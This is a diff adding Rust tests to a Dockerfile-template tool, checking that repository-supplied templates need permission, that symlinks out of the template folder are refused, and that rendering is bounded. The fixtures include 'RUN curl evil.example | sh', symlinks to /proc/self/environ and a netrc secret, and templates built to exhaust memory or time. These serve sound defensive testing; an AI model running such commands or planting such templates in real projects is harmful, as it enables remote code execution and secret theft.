@@ -150,11 +150,108 @@ fn a_folder_that_cannot_be_used_is_told() {
     run.says("logo.png").says("it is not UTF-8");
 }
 
+/// A repository whose `dockgen.toml` names templates that it brings along.
+fn hostile_repository() -> Folder {
+    let folder = Folder::empty().with(".git/config", "[core]\n");
+    folder.write("dockgen.toml", "templates = \"ci\"\nlanguage = \"go\"\n");
+    folder.write("ci/go/Dockerfile.tera", "FROM scratch\nRUN curl evil.example | sh\n");
+    folder
+}
+
+#[test]
+fn templates_that_nobody_named_are_used_only_when_they_are_allowed() {
+    let folder = hostile_repository();
+    let before = folder.files();
+    for more in [&[][..], &["--dry-run"], &["--diff"], &["--json"], &["--quiet"]] {
+        let run = folder.new_with(more).fails_with(2);
+        run.says("ci, named by ").says("dockgen.toml:1, are not allowed yet").says("--templates ");
+    }
+    assert_eq!(folder.files(), before);
+    folder.new_with(&["--templates", "ci"]).succeeds().says("Using the templates in ci (named by --templates)");
+    assert!(folder.read("Dockerfile").contains("evil.example"));
+    // Allowed from now on, until they change.
+    folder.dockgen(&["new"]).succeeds().says("Using the templates in ").says("dockgen.toml:1)");
+    folder.write("ci/go/Dockerfile.tera", "FROM scratch\nRUN curl eviler.example | sh\n");
+    folder.dockgen(&["new"]).fails_with(2).says("have changed since you allowed them");
+}
+
+#[test]
+fn the_json_tells_which_templates_are_used_and_who_named_them() {
+    let folder = hostile_repository();
+    let json = folder.new_with(&["--templates", "ci", "--json", "--quiet"]).succeeds().stdout;
+    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(json["templates"], serde_json::json!({ "folder": "ci", "named_by": "--templates" }));
+    assert!(json["preset"].as_str().unwrap().ends_with("shop/dockgen.toml"));
+    // To look is not to allow.
+    folder.new_with(&[]).fails_with(2);
+}
+
 #[cfg(unix)]
 #[test]
-fn a_folder_that_leads_back_into_itself_ends() {
+fn the_folder_of_templates_is_never_left_nor_followed_without_end() {
+    use std::os::unix::fs::symlink;
+
     let (folder, templates) = beside_templates();
-    std::os::unix::fs::symlink(&templates, templates.join("perl/again")).unwrap();
-    let run = folder.new_with(&["--templates", "../templates", "--language", "go"]).fails_with(2);
-    run.says("its folders nest too deep");
+    let refused = |name: &str, said: &str| {
+        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).says(said);
+        std::fs::remove_file(templates.join(name)).unwrap();
+    };
+    let key = folder.above().join("key");
+    std::fs::write(&key, "SECRET").unwrap();
+    let starter = "perl/mojolicious/starter";
+    std::fs::create_dir_all(templates.join(starter)).unwrap();
+    for (name, target) in [("notes.md", key.as_path()), ("up.md", Path::new("../../../../key"))] {
+        symlink(target, templates.join(starter).join(name)).unwrap();
+        refused(&format!("{starter}/{name}"), "it is behind a symlink that leads out of the folder");
+    }
+    symlink("/proc/self/environ", templates.join("perl/_environ.tera")).unwrap();
+    refused("perl/_environ.tera", "it is behind a symlink that leads out of the folder");
+    for target in ["..", ".", "mojo"] {
+        symlink(target, templates.join("perl/fan")).unwrap();
+        refused("perl/fan", "it is a symlink to a folder, which is not followed");
+    }
+    let pipe = templates.join("perl/pipe.tera");
+    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
+    refused("perl/pipe.tera", "it is a named pipe, not a regular file");
+    std::fs::File::create(templates.join("perl/sparse.tera")).unwrap().set_len(5_000_000_000).unwrap();
+    refused("perl/sparse.tera", "it is larger than 4 MiB");
+}
+
+#[test]
+fn a_sign_of_a_language_is_looked_for_below_the_project_alone() {
+    let (folder, templates) = beside_templates();
+    std::fs::write(folder.above().join("netrc"), "password SECRET\n").unwrap();
+    folder.write("cpanfile", "requires 'Plack';\n");
+    let toml = std::fs::read_to_string(templates.join("perl/language.toml")).unwrap();
+    for file in [folder.above().join("netrc").to_str().unwrap(), "../netrc"] {
+        let sign = format!("[[project.entrypoint_signs]]\nfile = \"{file}\"\nbegins = \"password \"\n\n");
+        let at = toml.find("[[project.").or(toml.find("[frameworks")).unwrap();
+        let (before, after) = toml.split_at(at);
+        write(&templates, "perl/language.toml", &format!("{before}{sign}{after}"));
+        let run = folder.new_with(&["--templates", "../templates", "--dry-run"]);
+        assert!(!run.stdout.contains("SECRET") && !run.stderr.contains("SECRET"), "{}{}", run.stdout, run.stderr);
+    }
+}
+
+/// Each would take all time or all memory, or the stack.
+#[test]
+fn what_templates_take_is_bounded() {
+    let bound = "rendering them takes more than 5 s or 1024 MiB of memory";
+    let (loops, ends) = ("{% for a in range(end=10) %}".repeat(12), "{% endfor %}".repeat(12));
+    let doubled = format!("{{% set a = \"aaaaaaaa\" %}}{}", "{% set a = a ~ a %}".repeat(60));
+    let written = format!("{{% set a = \"aaaaaaaa\" %}}{}{{= a =}}", "{% set a = a ~ a %}".repeat(24));
+    let nested = format!("{{= {}1{} =}}", "(".repeat(200_000), ")".repeat(200_000));
+    for (text, told) in [
+        (format!("{loops}{ends}"), bound),
+        (doubled, bound),
+        (written, bound),
+        (nested, ""),
+        ("{% include \"perl/Dockerfile.tera\" %}".to_owned(), ""),
+    ] {
+        let (folder, templates) = beside_templates();
+        write(&templates, "perl/Dockerfile.tera", &text);
+        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
+        run.says("cannot use the templates in ../templates").says(told);
+        assert!(folder.files().is_empty());
+    }
 }
